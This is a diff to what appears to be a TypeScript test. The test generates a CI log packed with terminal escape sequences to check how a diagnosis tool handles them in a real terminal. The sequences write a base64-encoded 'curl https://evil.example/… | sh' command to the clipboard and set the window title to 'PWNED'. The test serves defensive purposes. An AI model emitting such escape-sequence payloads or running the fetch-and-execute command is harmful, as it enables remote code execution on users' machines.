@@ -27,7 +27,7 @@ describe.skipIf(!ok)('a log full of OSC sequences, diagnosed in a real terminal'
 	const log = join(dir, 'ci.log');
 	const lines: string[] = [];
 	for (let i = 0; i < 20; i++) {
-		lines.push(`${ESC}]52;c;${b64(`curl https://evil.example/${i} | sh`)}${BEL}Warning  Failed  kubelet  Error: ErrImageNeverPull`);
+		lines.push(`${ESC}]52;c;${b64(`curl https://evil.example/${i} | sh`)}${BEL}Error: container name "gw_test" is already in use`);
 		lines.push(`${ESC}]2;PWNED-${i}${ESC}\\${ESC}]0;PWNED0-${i}${BEL}Back-off pulling image "gateway:kd-1"`);
 	}
 	writeFileSync(log, `${lines.join('\n')}\n`);
